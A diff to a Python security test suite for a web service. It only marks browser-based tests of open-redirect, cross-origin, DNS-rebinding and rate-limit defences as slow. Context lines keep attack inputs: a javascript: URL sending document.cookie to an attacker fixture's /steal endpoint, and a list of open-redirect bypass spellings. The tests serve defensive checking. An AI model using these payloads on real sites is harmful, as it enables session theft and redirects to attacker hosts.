@@ -124,6 +124,7 @@ def test_a_path_here_is_kept_as_next(target: str) -> None:
     assert safe_next(target) == target
 
 
+@pytest.mark.slow
 def test_a_javascript_next_does_not_run_after_login(server: Server, browser: Browser,
                                                      attacker: Attacker) -> None:
     script = f"javascript:document.title='pwned';fetch('{attacker.url}/steal?'+document.cookie)"
@@ -138,6 +139,7 @@ def test_a_javascript_next_does_not_run_after_login(server: Server, browser: Bro
         context.close()
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("shape", ["{a}/landing", "//{host}/landing", "/\\{host}/landing",
                                    "/%09/{host}/landing"])
 def test_an_absolute_next_is_not_an_open_redirect(server: Server, browser: Browser,
@@ -169,6 +171,7 @@ OPEN_REDIRECTS = [
     "/\uff0f\uff0f{h}/x", "javascript://%0alocation='http://{h}/x'", "%2f%252f{h}/x"]
 
 
+@pytest.mark.slow
 def test_no_open_redirect_spelling_leaves_the_origin_after_login(
         server: Server, browser: Browser, attacker: Attacker) -> None:
     """Each payload as a person following the link would: open the login, log in, land."""
@@ -229,6 +232,7 @@ def attack_pages(service: str, spec: dict[str, Any]) -> dict[str, str]:
     return {"/fetch.html": fetches, "/form.html": form}
 
 
+@pytest.mark.slow
 def test_a_page_on_another_port_cannot_write_with_the_session(
         server: Server, browser: Browser, attacker: Attacker) -> None:
     with Client(server.url, token=TOKEN) as api:
@@ -334,6 +338,7 @@ def test_a_rebound_host_name_is_refused_and_loopback_names_are_served(
         assert http.post("/api/studies", headers=other, json={}).status_code == 403
 
 
+@pytest.mark.slow
 def test_a_browser_on_a_rebound_name_gets_the_refusal(open_server: Server,
                                                       browser: Browser) -> None:
     """Chromium resolves evil.test to 127.0.0.1, as the attacker's DNS would after the
@@ -353,6 +358,7 @@ def test_a_browser_on_a_rebound_name_gets_the_refusal(open_server: Server,
         rebinding.close()
 
 
+@pytest.mark.slow
 def test_a_rebinding_page_can_neither_submit_nor_cancel(open_server: Server,
                                                         browser: Browser) -> None:
     """A script of a page of evil.test:PORT, once that name resolves to 127.0.0.1: its
@@ -555,6 +561,7 @@ def test_docs_and_redoc_load_nothing_from_another_host(server: Server, browser: 
     page.close()
 
 
+@pytest.mark.slow
 def test_the_pages_draw_under_their_policy(server: Server, browser: Browser) -> None:
     context = browser.new_context()
     try:
@@ -595,6 +602,7 @@ def test_failed_logins_get_429_with_retry_after(server: Server) -> None:
         assert http.post("/login", json={"token": TOKEN}).status_code == 204
 
 
+@pytest.mark.slow
 def test_fresh_forwarded_for_headers_do_not_escape_the_limit(server: Server) -> None:
     """The limit counts by the peer's address; X-Forwarded-For counts only from the proxy
     named in STAGETUNE_FORWARDED_ALLOW_IPS (uvicorn by itself believes 127.0.0.1)."""
